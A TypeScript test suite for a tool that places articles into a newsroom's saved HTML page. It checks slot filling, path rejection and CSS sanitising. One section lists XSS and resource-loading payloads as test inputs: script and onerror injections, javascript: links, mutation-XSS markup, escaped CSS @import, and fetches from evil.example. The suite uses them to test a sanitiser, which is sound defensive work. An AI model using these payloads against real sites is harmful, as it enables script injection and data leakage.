import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { houseFindings } from '../../src/checks/house-file.ts';
import { checks } from '../../src/checks/index.ts';
import type { PageSlot } from '../../src/house/house.ts';
import { resolveHouse } from '../../src/house/load.ts';
import { placePageFaults } from '../../src/house/page-faults.ts';
import { parseArticle } from '../../src/model/parse.ts';
import { type OwnPage, pageHtml, renderDocument, renderPage } from '../../src/page/index.ts';
import { localCss, localDeclarations } from '../../src/page/own/local-css.ts';
import { readOwnPage } from '../../src/page/own/read-own-page.ts';
import { inventedHouse, report } from './invented.ts';

const saved = readFileSync('test/newsroom/site/article.html', 'utf8');
const slots = { title: 'h1.title', column: '#column', meta: '.time', body: '.article', editor: '.editor' };
const beside = (reference: string): string | undefined =>
  reference.startsWith('..') ? undefined : `site/${reference.replace(/^\.\//, '')}`;

function draw(own: OwnPage, text = report): string {
  return pageHtml(renderPage(parseArticle(text), inventedHouse(), { locale: 'zh', image: (src) => src, own }));
}

function read(body: string, named: Partial<Record<PageSlot, string>> = { body: '#b' }): OwnPage {
  return readOwnPage(`<div id="b"></div>${body}`, named, 'site/article.html', beside);
}

describe('the newsroom’s own page', () => {
  const own = readOwnPage(saved, slots, 'site/article.html', beside);
  const html = draw(own);

  it('is filled where its selectors say, with nothing left of the article that it was saved with', () => {
    assert.deepEqual(own.faults, []);
    assert.match(html, /<h1 class="title" data-line="\d+">【山海协作·春耕见闻】云岭镇与望海区共建育秧中心/);
    assert.match(html, /<span id="column" data-line="\d+">乡村<\/span>/);
    assert.match(html, /<div class="row article"><figure/);
    assert.match(html, /class="editor"[^>]*>责任编辑：林望舒</);
    assert.match(html, />发布时间：<time[^>]*>2026-03-09 10:20:05<\/time>\s+来源：青禾新闻</);
    assert.doesNotMatch(html, /渔家夜校|何照野|许青禾|2025-10-14/);
    assert.match(html, /热点.*云岫新闻网 版权所有/s);
  });

  it('loses the places that an article does not fill, their labels with them', () => {
    const bare = draw(own, '---\ntitle: 只有题目\nsource: 青禾新闻\n---\n\n正文。\n');
    assert.doesNotMatch(bare, /责任编辑|发布时间|2025|许青禾/);
    assert.match(bare, /来源：青禾新闻/);
  });

  it('keeps its stylesheets in their order, those beside it by their address and no others', () => {
    assert.deepEqual(
      own.styles.map((style) => ('href' in style ? [style.href, style.media] : style.css.trim().slice(0, 40))),
      [
        ['site/article_files/site.css', undefined],
        ['site/article_files/print.css', 'print'],
        '.crumb { color: #7a4b12; background: url',
        '.copydesk-style-1:not(#_#_#_#_) {backgro',
      ],
    );
    assert.deepEqual(own.body, { class: 'page-article copydesk-style-1', id: 'top' });
    assert.deepEqual(own.html, { class: 'site' });
    assert.match(JSON.stringify(own.styles), /site\/article_files\/dot\.png/);
  });

  it('is a file that loads nothing from elsewhere', () => {
    const page = renderPage(parseArticle(report), inventedHouse(), { locale: 'zh', image: (src) => src, own });
    const document = renderDocument(page);
    assert.match(document, /<body class="page-article copydesk-style-1" id="top">/);
    assert.match(document, /default-src 'none'/);
    assert.doesNotMatch(
      document,
      /<script|yunxiu\.example\/(?:fonts|late)|ads\.example|onload|onclick|onsubmit|action=/,
    );
  });

  it('says in the house file what matches nothing, at its place', () => {
    const text = `extends: china-report\npage:\n  html: site/article.html\n  slots:\n    title: h9.title\n    body: .article\n    editor: '..'\n    column: .article p\n`;
    const { house } = resolveHouse({ text }, checks);
    assert.ok(house);
    const page = readOwnPage(saved, house.page.slots ?? {}, 'site/article.html', beside);
    const found = houseFindings(placePageFaults(text, page.faults));
    assert.deepEqual(
      found.map(({ at, message }) => [text.slice(at.start, at.end), message.en]),
      [
        ['h9.title', 'Unexpected selector `h9.title`, expected it to match an element of `site/article.html`'],
        ["'..'", 'Unexpected `..`, expected a CSS selector such as `.article`'],
        ['.article p', 'Unexpected `.article p` inside the element of `body`, expected the two apart'],
      ],
    );
    for (const { message } of found) assert.match(message.zh, /\p{Script=Han}/u);
    const none = readOwnPage(saved, { title: 'h1' }, 'site/article.html', beside);
    assert.deepEqual(
      none.faults.map(({ code }) => code),
      ['missing-body'],
    );
    assert.equal(none.layout, undefined, 'and the theme is drawn');
    assert.equal(
      renderPage(parseArticle(report), inventedHouse(), { locale: 'zh', image: () => undefined, own: none }).theme,
      'china-report',
    );
  });

  it('takes only a path inside the folder', () => {
    for (const path of ['../site/a.html', '/etc/passwd', 'https://a.example/a.html', 'a/../../b.html', 'C:\\a.html']) {
      const { faults } = resolveHouse({ text: `page: {html: ${JSON.stringify(path)}}\n` }, checks);
      assert.deepEqual(
        faults.map(({ code }) => code),
        ['bad-file-path'],
        path,
      );
    }
  });
});

describe('a hostile saved page', () => {
  for (const attack of [
    '<script>window.taken=1</script>',
    '<img src=x onerror="window.taken=1">',
    '<body onload="window.taken=1">',
    '<svg onload="window.taken=1"><script>window.taken=1</script><a href="javascript:window.taken=1"><text>x</text></a></svg>',
    '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.taken=1&gt;">',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.taken=1</script>"></iframe>',
    '<object data="data:text/html,<script>window.taken=1</script>"></object><embed src="https://evil.example/x.swf">',
    '<a href="javascript:window.taken=1">x</a><a href=" JaVa\tScript:window.taken=1">y</a><a href="command:workbench.action.quit">z</a>',
    '<a href="data:text/html,<script>window.taken=1</script>">x</a><area href="javascript:window.taken=1">',
    '<form action="https://evil.example/"><input name="q"><button formaction="javascript:window.taken=1">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="stylesheet" href="//evil.example/a.css">',
    '<link rel="import" href="x.html"><link rel="preload" as="script" href="x.js"><link rel="manifest" href="x">',
    '<style>@import "https://evil.example/a.css"; @import url(https://evil.example/a.css); p{background:url(https://evil.example/p.png)}</style>',
    '<style>@\\69mport "https://evil.example/a.css"; p{background:\\75rl(https://evil.example/p.png)}</style>',
    '<style>p{background:image-set("https://evil.example/p.png" 1x)} @font-face{font-family:x;src:url("https://evil.example/f.woff")}</style>',
    '<p style="background:url(https://evil.example/p.png)">x</p><p style="}</style><script>window.taken=1</script>">y</p>',
    '<p style="color:red} body{background:url(https://evil.example/p.png)">x</p>',
    '<img src="https://evil.example/p.png" srcset="https://evil.example/p.png 2x"><picture><source srcset="https://evil.example/p.png"></picture>',
    '<img src="../../../../etc/passwd"><img src="file:///etc/passwd"><img src="data:text/html,<script>window.taken=1</script>">',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a.mp3">',
    '<template><script>window.taken=1</script></template><noscript><p title="</noscript><img src=x onerror=window.taken=1>">',
    '<p data-copydesk-slot="title" data-line="9" data-blocks>x</p>',
    '<table background="https://evil.example/p.png"><tr><td background="https://evil.example/p.png">x</td></tr></table>',
    '<!--><script>window.taken=1</script>--><!--[if IE]><script>window.taken=1</script><![endif]-->',
    '<textarea><script>window.taken=1</script></textarea><xmp><script>window.taken=1</script></xmp>',
    '<div is="x-y" contenteditable autofocus onfocus="window.taken=1" tabindex="1">x</div>',
  ]) {
    it(`does nothing: ${attack.slice(0, 60)}`, () => {
      const own = read(attack);
      const page = renderPage(parseArticle('正文。\n'), inventedHouse(), { locale: 'zh', image: (src) => src, own });
      assert.equal(page.theme, 'own');
      const whole = renderDocument(page);
      // What the policy and our own styles say aside, and what is text or a value that a browser does not read.
      const tags = whole.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '').match(/<[a-z][^>]*>/gi) ?? [];
      for (const tag of tags) {
        assert.doesNotMatch(
          tag,
          /^<(?:script|iframe|object|embed|base|svg|math|meta http|video|audio|area|template|noscript)/i,
          tag,
        );
        assert.doesNotMatch(
          tag,
          /\s(?:on\w+|srcset|action|formaction|background|poster|contenteditable|autofocus|is|style)\s*=/i,
          tag,
        );
        assert.doesNotMatch(tag, /(?:href|src)="\s*(?:javascript|command|data:text|file:|\/\/|\.\.\/\.\.)/i, tag);
        assert.doesNotMatch(tag, /^<(?:link|img)[^>]*evil\.example/i, tag);
      }
      for (const style of own.styles) assert.doesNotMatch('css' in style ? style.css : style.href, /evil\.example|<\//);
      assert.doesNotMatch(pageHtml(page), /data-copydesk-slot|data-line="9"|data-blocks/);
    });
  }

  it('is read in time, however large or deep', () => {
    for (const unit of [
      '<div>',
      '<b>',
      '</p>',
      '<style>p{a:url(',
      '<p style="a:((((">',
      '<a href=x>',
      '&#0;',
      '<table>',
      '<!--',
    ]) {
      const before = performance.now();
      const own = read(unit.repeat(Math.ceil(60_000 / unit.length)));
      assert.ok(performance.now() - before < 20_000, unit);
      assert.ok(own.layout !== undefined || own.faults.length > 0);
    }
    assert.equal(read('x'.repeat(5_000_000)).faults[0]?.code, 'page-too-big');
  });
});

describe('local CSS', () => {
  const asset = (reference: string): string | undefined =>
    reference.includes('absent') ? undefined : `/w/${reference}`;

  it('has its addresses resolved, and none that the host does not know', () => {
    assert.equal(localCss('a{background:url(x.png)}', asset), 'a{background:url("/w/x.png")}');
    assert.equal(localCss('a{background:url( "x.png" )}', asset), 'a{background:url("/w/x.png")}');
    assert.equal(localCss('a{background:url(absent.png)}', asset), 'a{background:url("")}');
    assert.equal(
      localCss('a{background:url(data:image/png;base64,AA)}', asset),
      'a{background:url("data:image/png;base64,AA")}',
    );
    assert.equal(localCss("a::before{content:'url(x)'}", asset), "a::before{content:'url(x)'}");
    assert.equal(localCss('@media print{a{color:red}}', asset), '@media print{a{color:red}}');
    assert.equal(localCss('@charset "x"; a{}', asset).trim(), 'a{}');
  });

  it('of an attribute is declarations and no more', () => {
    assert.equal(localDeclarations('color: red; margin: 0', asset), 'color: red; margin: 0');
    for (const style of ['color:red}', 'a{b:c}', '@import "x"', 'width:calc(1px', '"', 'content:"\\"', '/* x', ')']) {
      assert.equal(localDeclarations(style, asset), '', style);
    }
  });
});
